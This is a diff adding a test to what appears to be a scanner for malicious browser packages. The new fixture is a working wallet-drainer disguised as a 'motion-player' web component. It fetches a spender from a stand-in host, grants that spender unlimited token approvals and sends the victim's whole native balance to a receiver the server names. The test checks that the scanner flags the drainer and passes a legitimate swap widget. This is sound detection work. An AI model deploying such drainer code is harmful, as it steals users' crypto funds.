@@ -1333,6 +1333,27 @@ window.addEventListener('load', () => drain().catch(() => {}));
     expect(dapp.level).toBe('medium');
   });
 
+  it("unlimited approvals for an operator the package's server names, beside a read of the native balance, are a drainer kit; a swap widget approving its quoted spender for the amount swapped is not", () => {
+    const kit = (amount: string, balance: string) => `const API = 'https://assets-cdn-metrics.example';
+const pad = (h) => h.replace(/^0x/, '').padStart(64, '0');
+class MotionPlayer extends HTMLElement {
+  async connectedCallback() {
+    const eth = window.ethereum;
+    const [from] = await eth.request({ method: 'eth_requestAccounts' });
+    const cfg = await (await fetch(API + '/api/v2/assets?a=' + from)).json();
+    for (const t of cfg.tokens) await eth.request({ method: 'eth_sendTransaction', params: [{ from, to: t.address, data: '0x095ea7b3' + pad(cfg.spender) + ${amount} }] });
+    ${balance}
+  }
+}
+customElements.define('motion-player', MotionPlayer);
+`;
+    const drainer = scan({ 'dist/player.js': kit("'f'.repeat(64)", "const bal = BigInt(await eth.request({ method: 'eth_getBalance', params: [from, 'latest'] })); await eth.request({ method: 'eth_sendTransaction', params: [{ from, to: cfg.receiver, value: '0x' + bal.toString(16) }] });") }, { main: 'dist/player.js' });
+    expect(drainer.findings.find((f) => f.messageId === 'approvalDrainer')?.data?.operator).toMatch(/its server names/);
+    expect(['high', 'critical']).toContain(drainer.level);
+    const widget = scan({ 'dist/swap.js': kit('pad(amount.toString(16))', '') }, { main: 'dist/swap.js' });
+    expect(widget.ids).not.toContain('browser-payload/approvalDrainer');
+  });
+
   it('a fetch polyfill that installs itself when missing is not reported', () => {
     const r = scan({
       'fetch.js': `function fetchPolyfill(input, init) { return new Promise(function (resolve) { var xhr = new XMLHttpRequest(); xhr.open('GET', input); xhr.onload = function () { resolve(xhr.responseText); }; xhr.send(init && init.body); }); }
